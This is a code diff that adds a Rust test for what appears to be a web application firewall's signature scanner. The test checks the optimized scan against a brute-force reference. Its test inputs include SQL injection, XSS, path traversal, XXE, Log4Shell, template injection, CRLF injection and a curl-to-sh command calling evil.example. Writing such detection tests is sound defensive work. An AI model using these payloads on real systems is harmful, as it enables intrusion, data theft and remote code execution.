@@ -718,6 +718,81 @@ mod tests {
         }
     }
 
+    /// What the scan must find: every rule run on every one of its
+    /// pipeline's outputs, no gate, no prefilter.
+    fn brute_force(set: &RuleSet, target: Targets, value: &str) -> Vec<u32> {
+        let mut out: Vec<u32> = Vec::new();
+        for (p, pipeline) in set.pipelines.iter().enumerate() {
+            let v = transform::apply(value, pipeline);
+            for unit in &set.units {
+                let rule = &set.rules[unit.rule];
+                let in_pipeline = set.pipeline_step[p] == rule_pipeline_step(set, unit.rule)
+                    && rule.targets.intersects(target);
+                if in_pipeline && unit.matcher.matches(v.as_bytes()) && !out.contains(&rule.id) {
+                    out.push(rule.id);
+                }
+            }
+        }
+        out.sort_unstable();
+        out
+    }
+
+    /// The last step of the pipeline of rule `r` (found through its units).
+    fn rule_pipeline_step(set: &RuleSet, r: usize) -> Option<usize> {
+        let u = set.units.iter().position(|u| u.rule == r).unwrap();
+        let p = (0..set.pipelines.len())
+            .find(|p| set.pipeline_units[*p].has(u) || set.pipeline_untracked[*p].contains(&u))
+            .unwrap();
+        set.pipeline_step[p]
+    }
+
+    #[test]
+    fn the_gate_and_prefilter_never_hide_a_match() {
+        let set = RuleSet::compile(&crate::signatures::builtin(4)).unwrap();
+        let values = [
+            "shoes",
+            "o'reilly trail runner",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+            "https://shop.example.com/search?q=shoes",
+            "1' OR '1'='1",
+            "1%27%20UNION%2F**%2FSELECT%20password%20FROM%20users--",
+            "un/**/ion sel/**/ect 1,2",
+            "<script>alert(1)</script>",
+            "&lt;img src=x onerror=alert(1)&gt;",
+            "\\u003csvg onload=alert(1)\\u003e",
+            "; c'a't /e't'c/pa's'swd",
+            "$(curl${IFS}http://evil.example/x|sh)",
+            "..%2f..%2f..%2fetc%2fpasswd",
+            "/var/www/../../etc/./passwd",
+            "${jndi:ldap://evil.example/a}",
+            "{{7*7}}",
+            "{\"$where\": \"sleep(1000)\"}",
+            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "select the best option from the drop-down",
+            "a\r\nSet-Cookie: x=y",
+            "\u{0}%00admin",
+        ];
+        let targets = [
+            Targets::ARGS,
+            Targets::PATH,
+            Targets::HEADERS,
+            Targets::OTHER_HEADERS,
+            Targets::QUERY,
+            Targets::BODY,
+        ];
+        let mut attacks = 0;
+        for value in values {
+            for target in targets {
+                let want = brute_force(&set, target, value);
+                attacks += usize::from(target == Targets::ARGS && !want.is_empty());
+                assert_eq!(ids(&set, target, value), want, "{value:?} as {target:?}");
+            }
+        }
+        // The comparison means something: most of these values are attacks.
+        assert!(attacks >= 15, "{attacks}");
+    }
+
     fn ids(set: &RuleSet, target: Targets, value: &str) -> Vec<u32> {
         let mut out = Vec::new();
         set.scan(target, value, &All, &mut |r| out.push(set.rules()[r].id));
